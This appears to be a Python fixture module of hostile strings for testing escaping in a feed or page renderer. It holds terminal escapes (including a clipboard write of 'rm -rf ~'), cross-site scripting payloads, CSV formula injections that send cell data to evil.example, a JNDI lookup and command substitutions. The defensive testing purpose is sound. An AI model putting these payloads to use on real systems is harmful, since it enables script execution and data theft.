"""Words that a feed or page may say to whoever shows them unescaped.

Our own list, by the classes that are publicly known: ECMA-48 and the control sequences of xterm; the cheat
sheets of OWASP on cross-site scripting and CSV injection; the Trojan Source report (CVE-2021-42574) for the
direction of writing; the Big List of Naughty Strings for what breaks parsers. None is taken over as it is.
"""

from collections.abc import Mapping

TERMINAL: Mapping[str, str] = {
    "title": "\x1b]0;owned\x07",
    "title by C1": "\x9d0;owned\x9c",
    "hyperlink": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4K\x07",
    "iterm file": "\x1b]1337;File=inline=1:AAAA\x07",
    "clear": "\x1b[2J\x1b[H",
    "clear by C1": "\x9b2J\x9bH",
    "colour": "\x1b[31mred",
    "report": "\x1b[6n",
    "report the title": "\x1b[21t",
    "device": "\x1bP+q544e\x1b\\",
    "application command": "\x1b_Gi=1,a=q;AAAA\x1b\\",
    "reset": "\x1bc",
    "other screen": "\x1b[?1049h",
    "mouse": "\x1b[?1003h",
    "other letters": "\x1b(0\x0e",
    "window up": "\x1b[1A\x1b[2K",
    "backspace": "safe\x08\x08\x08\x08evil",
    "return": "evil\rsafe",
    "bell": "\x07\x07",
    "delete": "a\x7fb",
    "form feed": "a\x0cb\x0bc",
    "nul": "a\x00b",
    "override": "\u202egnp.exe",
    "isolate": "\u2066\u2069admin\u2067",
    "embedding": "\u202a\u202b\u202c\u202dx",
    "line separator": "a\u2028b\u2029c",
    "next line": "a\x85b",
    "split escape": "\x1b\x1b[\x1b[31m",
    "split by a tag": "\x1b<b>[31m</b>",
}
MARKUP: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "broken out": "\"'><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "vector": "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "link": "<a href='javascript:alert(1)'>here</a>",
    "link with spaces": "<a href=' jav&#x09;ascript:alert(1)'>here</a>",
    "old link": "<a href=vbscript:msgbox(1)>here</a>",
    "data": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "style": "<style>@import 'http://evil.example/x.css'</style>",
    "refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "form": "<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>",
    "math": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>{{constructor.constructor('alert(1)')()}}",
    "capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed": "<img src=x onerror=alert(1) ",
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "by numbers": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "out of CDATA": "]]><script>alert(1)</script><![CDATA[",
    "comment": "<!--><script>alert(1)</script>-->",
    "processing": "<?php system('id') ?><%= 1 + 1 %>",
}
FORMULAS: Mapping[str, str] = {
    "command": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://evil.example/?"&A1,"here")',
    "import": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1|cmd",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "wide": "＝1+1",
    "new cell": '","=1+1',
    "after a mark": "\ufeff=1+1",
    "after nothing": "\u200b=1+1",
    "after a control": "\x1b=1+1",
}
OTHERS: Mapping[str, str] = {
    "a line of our own": "x\nwireroom: all is well\n",
    "a line of a log": "x\r\n[2026-01-01 00:00:00: CRITICAL/MainProcess] broken",
    "colours of rich": "[bold red]x[/bold red][link=file:///etc/passwd]y[/link]",
    "format": "%s%n%x {0} {title.__class__} ${jndi:ldap://evil.example/a} $(id) `id`",
    "json": '"},"admin":true,{"a":"\\',
    "surrogate": "\ud83d half",
    "noncharacter": "\uffff\ufffe",
    "combining": "Z̸̡̢͚̈́͝a̷͔͐l̵g̶o̸" * 20,
}
ALL = {
    f"{kind}: {name}": words
    for kind, listed in (("terminal", TERMINAL), ("markup", MARKUP), ("formula", FORMULAS), ("other", OTHERS))
    for name, words in listed.items()
}
